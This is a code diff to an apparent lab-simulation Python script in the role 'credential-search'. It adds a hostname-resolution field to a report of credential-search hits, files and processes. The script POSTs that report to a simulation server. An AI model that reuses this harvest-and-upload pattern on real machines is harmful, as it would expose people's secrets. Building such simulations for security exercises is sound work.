@@ -77,8 +77,14 @@ try:
 except (OSError, subprocess.SubprocessError):
     hits.append("journal: journalctl failed")
 
+# The VM's own name resolves from its /etc/hosts, not through DNS (sudo looks it up, and
+# the lab's DNS has no answer: each sudo would wait for its timeout).
+try:
+    resolved = socket.gethostbyname(socket.gethostname())
+except OSError as e:
+    resolved = "error: %s" % e
 report = {"role": "credential-search", "vm": socket.gethostname(), "hits": hits, "files": files,
-          "processes": processes, "uid": os.getuid()}
+          "processes": processes, "uid": os.getuid(), "resolved": resolved}
 print("credential search: %s" % json.dumps(report), flush=True)
 req = urllib.request.Request(cfg["sim"] + "/_sim/reports", data=json.dumps(report).encode(),
                              headers={"Content-Type": "application/json"}, method="POST")
